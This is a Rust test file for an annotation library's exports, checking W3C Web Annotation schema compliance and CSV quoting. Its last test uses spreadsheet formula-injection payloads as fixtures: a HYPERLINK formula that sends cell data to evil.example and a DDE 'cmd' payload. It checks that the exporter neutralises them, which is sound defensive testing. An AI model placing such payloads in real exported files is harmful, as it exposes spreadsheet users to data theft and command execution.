//! Exports: W3C Web Annotation validated against the W3C test schemas, CSV quoting.

use std::path::PathBuf;

use jsonschema::{Draft, Retrieve, Uri};
use serde_json::Value;
use threadmark_core::export::{export, ExportFormat};
use threadmark_core::{Library, NewHighlight, SourceFormat};

fn w3c() -> PathBuf {
    super::corpus().join("annotation/w3c")
}

/// Serves the W3C test suite's `definitions/*.json` to `$ref`s.
struct Definitions;

impl Retrieve for Definitions {
    fn retrieve(
        &self,
        uri: &Uri<String>,
    ) -> Result<Value, Box<dyn std::error::Error + Send + Sync>> {
        let name = uri
            .path()
            .as_str()
            .rsplit('/')
            .next()
            .unwrap_or_default()
            .to_string();
        let text = std::fs::read_to_string(w3c().join("definitions").join(&name))?;
        Ok(serde_json::from_str(&text)?)
    }
}

/// The assertions listed in a `*Musts.test` file, as compiled validators.
fn assertions(test: &str) -> Vec<(String, jsonschema::Validator)> {
    let t: Value =
        serde_json::from_str(&std::fs::read_to_string(w3c().join(test)).unwrap()).unwrap();
    let list = t["assertions"].as_array().unwrap();
    assert!(!list.is_empty());
    list.iter()
        .map(|a| {
            let path = a.as_str().unwrap();
            let schema: Value =
                serde_json::from_str(&std::fs::read_to_string(w3c().join(path)).unwrap()).unwrap();
            assert_eq!(schema["expectedResult"], "valid", "{path}");
            let v = jsonschema::options()
                .with_draft(Draft::Draft4)
                .with_base_uri("https://w3c.example/definitions/")
                .with_retriever(Definitions)
                .build(&schema)
                .unwrap_or_else(|e| panic!("{path}: {e}"));
            (path.to_string(), v)
        })
        .collect()
}

fn library_with_highlights() -> (Library, i64) {
    let mut lib = Library::open_in_memory().unwrap();
    let id = lib
        .import_bytes(
            "seed.txt",
            super::seed().as_bytes(),
            SourceFormat::Text,
            None,
        )
        .unwrap()[0];
    let add = |lib: &mut Library,
               post: &str,
               exact: &str,
               label: Option<&str>,
               note: &str,
               tags: &[&str]| {
        lib.add_highlight(
            id,
            post,
            &NewHighlight {
                exact: exact.into(),
                label: label.map(str::to_string),
                note: note.into(),
                tags: tags.iter().map(|t| t.to_string()).collect(),
                ..Default::default()
            },
        )
        .unwrap()
    };
    add(
        &mut lib,
        "7",
        "solid background",
        Some("Claim"),
        "Is a degree *evidence*?",
        &["bio", "hardware"],
    );
    add(
        &mut lib,
        "19",
        "long waits for H1B visas",
        Some("Rebuttal"),
        "",
        &[],
    );
    add(
        &mut lib,
        "142",
        "赤热",
        None,
        "A TV drama, \"Silicon Wave\", with commas, quotes\nand a newline",
        &[],
    );
    (lib, id)
}

#[test]
fn w3c_export_passes_every_annotation_must() {
    let (lib, id) = library_with_highlights();
    let doc: Value =
        serde_json::from_str(&export(&lib, &[id], ExportFormat::W3c).unwrap()).unwrap();
    assert_eq!(doc["type"], "AnnotationCollection");
    let items = doc["first"]["items"].as_array().unwrap();
    assert_eq!(items.len(), 3);
    assert_eq!(doc["total"], 3);
    let musts = assertions("annotations/annotationMusts.test");
    assert_eq!(musts.len(), 54);
    for a in items {
        for (name, v) in &musts {
            let errors: Vec<String> = v.iter_errors(a).map(|e| e.to_string()).collect();
            assert!(errors.is_empty(), "{name}: {errors:?}\n{a:#}");
        }
        assert!(a["id"].as_str().unwrap().starts_with("urn:uuid:"));
        let sel = &a["target"]["selector"];
        assert_eq!(sel[0]["type"], "TextQuoteSelector");
        assert_eq!(sel[1]["type"], "TextPositionSelector");
    }
    // The schemas do bite: broken copies fail.
    for (key, bad) in [
        ("@context", Value::from("http://example.com/ctx")),
        ("type", Value::from("Note")),
        ("created", Value::from("yesterday")),
    ] {
        let mut broken = items[0].clone();
        broken[key] = bad;
        assert!(
            musts.iter().any(|(_, v)| !v.is_valid(&broken)),
            "a wrong {key} passed every assertion"
        );
    }
    let mut no_target = items[0].clone();
    no_target.as_object_mut().unwrap().remove("target");
    assert!(musts.iter().any(|(_, v)| !v.is_valid(&no_target)));
    let first = &items[0];
    assert_eq!(
        first["target"]["source"],
        format!("urn:threadmark:thread:{id}:post:7")
    );
    assert_eq!(first["target"]["selector"][0]["exact"], "solid background");
    assert_eq!(
        (
            first["target"]["selector"][1]["start"].as_i64(),
            first["target"]["selector"][1]["end"].as_i64()
        ),
        (Some(72), Some(88))
    );
    let purposes: Vec<(&str, &str)> = first["body"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| (b["purpose"].as_str().unwrap(), b["value"].as_str().unwrap()))
        .collect();
    assert_eq!(
        purposes,
        [
            ("tagging", "Claim"),
            ("tagging", "bio"),
            ("tagging", "hardware"),
            ("commenting", "Is a degree *evidence*?")
        ]
    );
    // Code points: the CJK highlight's offsets count characters, not bytes or UTF-16 units.
    let cjk = &items[2]["target"]["selector"];
    let text = lib.post(id, "142").unwrap().text;
    let start = cjk[1]["start"].as_u64().unwrap() as usize;
    assert_eq!(text.chars().skip(start).take(2).collect::<String>(), "赤热");
}

#[test]
fn w3c_collection_passes_every_collection_must() {
    let (lib, id) = library_with_highlights();
    let doc: Value =
        serde_json::from_str(&export(&lib, &[id], ExportFormat::W3c).unwrap()).unwrap();
    for (name, v) in assertions("collections/collectionMusts.test") {
        let errors: Vec<String> = v.iter_errors(&doc).map(|e| e.to_string()).collect();
        assert!(errors.is_empty(), "{name}: {errors:?}");
    }
}

#[test]
fn csv_quotes_commas_quotes_newlines_and_unicode() {
    let (lib, id) = library_with_highlights();
    let text = export(&lib, &[id], ExportFormat::Csv).unwrap();
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
    assert_eq!(header[..3], ["thread_id", "thread_title", "post"]);
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    assert_eq!(&rows[0][col("text")], "solid background");
    assert_eq!(&rows[0][col("tags")], "bio, hardware");
    assert_eq!(&rows[0][col("label")], "Claim");
    assert_eq!(&rows[2][col("text")], "赤热");
    assert_eq!(
        &rows[2][col("note")],
        "A TV drama, \"Silicon Wave\", with commas, quotes\nand a newline"
    );
    assert!(
        text.contains("\"A TV drama, \"\"Silicon Wave\"\", with commas, quotes\nand a newline\"")
    );
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe() {
    let (mut lib, id) = library_with_highlights();
    // Post 13 of the seed reads "(accuracy + speed)": a highlight starting with `+`.
    lib.add_highlight(
        id,
        "13",
        &NewHighlight {
            exact: "+ speed)".into(),
            label: Some("Evidence".into()),
            note: "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")".into(),
            tags: vec!["@SUM(1+1)".into(), "=1+1".into()],
            ..Default::default()
        },
    )
    .unwrap();
    lib.add_highlight(
        id,
        "7",
        &NewHighlight {
            exact: "Electronics".into(),
            label: Some("Claim".into()),
            note: "-1+cmd|' /C calc'!A0\nsecond line, with a comma".into(),
            ..Default::default()
        },
    )
    .unwrap();
    let text = export(&lib, &[id], ExportFormat::Csv).unwrap();
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 5);
    let plus = rows.iter().find(|r| &r[col("post")] == "13").unwrap();
    assert_eq!(&plus[col("text")], "'+ speed)");
    assert_eq!(
        &plus[col("note")],
        "'=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")"
    );
    assert_eq!(&plus[col("tags")], "'=1+1, @SUM(1+1)");
    let minus = rows
        .iter()
        .find(|r| &r[col("text")] == "Electronics")
        .unwrap();
    assert_eq!(
        &minus[col("note")],
        "'-1+cmd|' /C calc'!A0\nsecond line, with a comma"
    );
    // No cell of the file starts with a formula character; ordinary cells are as
    // they were (the unicode and quoting of the other rows is unchanged).
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would run as a formula"
            );
        }
    }
    let cjk = rows.iter().find(|r| &r[col("post")] == "142").unwrap();
    assert_eq!(&cjk[col("text")], "赤热");
    assert_eq!(
        &cjk[col("note")],
        "A TV drama, \"Silicon Wave\", with commas, quotes\nand a newline"
    );
    assert_eq!(&rows[0][col("text")], "solid background");
}
